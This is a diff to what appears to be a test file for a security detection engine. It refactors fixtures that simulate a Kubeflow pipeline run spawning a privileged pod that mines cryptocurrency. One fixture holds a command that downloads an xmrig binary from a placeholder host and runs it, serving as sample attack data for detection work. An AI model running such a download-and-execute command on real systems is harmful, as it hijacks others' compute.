@@ -200,14 +200,18 @@ def get(path: str, at_ms: int, line: int, method: str = "GET") -> Event:
     )
 
 
-def chain() -> Firing:
-    """Gateway, workflow, pod with a new privileged image, miner output: three levels of correlation."""
-    workflow = event(
+def workflow_made() -> Event:
+    """The API server of Kubeflow Pipelines creates the run's Workflow."""
+    return event(
         AUDIT,
         29_814,
         audit("create", "workflows", PIPELINE, workload={"kind": "Workflow", "name": "sequential-pipeline-x7k2p"}),
         1312,
     )
+
+
+def pod_made() -> tuple[Event, Event]:
+    """Argo creates the run's pod: the request, and the container in it."""
     pod_fields = audit(
         "create",
         "pods",
@@ -220,8 +224,7 @@ def chain() -> Firing:
             "command_lines": ["sh -c wget https://files.example/xmrig && ./xmrig --token=s3cr3t"],
         },
     )
-    pod = event(AUDIT, 31_890, pod_fields, 1320)
-    spec = event(
+    container = event(
         CONTAINER_SPEC,
         31_890,
         pod_fields
@@ -236,7 +239,12 @@ def chain() -> Firing:
         },
         1321,
     )
-    output = event(
+    return event(AUDIT, 31_890, pod_fields, 1320), container
+
+
+def miner_speaks() -> Event:
+    """The container prints what a miner prints."""
+    return event(
         CONTAINER_LOG,
         52_322,
         {
@@ -251,17 +259,24 @@ def chain() -> Firing:
         3,
         "containers.ndjson",
     )
+
+
+def chain() -> Firing:
+    """Gateway, workflow, pod with a new privileged image, miner output: three levels of correlation."""
+    pod, container = pod_made()
     run = firing(
         "run",
         {"run_id": RUN_ID},
         match("visit", get("/pipeline/", 0, 1)),
         match("visit", get("/pipeline/apis/v1beta1/runs", 29_751, 2, "POST")),
-        match("workflow", workflow),
+        match("workflow", workflow_made()),
     )
     run_pod = firing("run_pod", {"workflow_uid": "8d0e"}, as_match(run), match("pod", pod))
-    image = match("image", spec, **{"container.repository": "tensorflow/tensorflow"})
+    image = match("image", container, **{"container.repository": "tensorflow/tensorflow"})
     new_image = firing("new_image", {"namespace": "kubeflow"}, image)
-    return firing("mined", {"pod_uid": "51be"}, as_match(run_pod), as_match(new_image), match("miner_output", output))
+    return firing(
+        "mined", {"pod_uid": "51be"}, as_match(run_pod), as_match(new_image), match("miner_output", miner_speaks())
+    )
 
 
 def chain_alert() -> Alert:
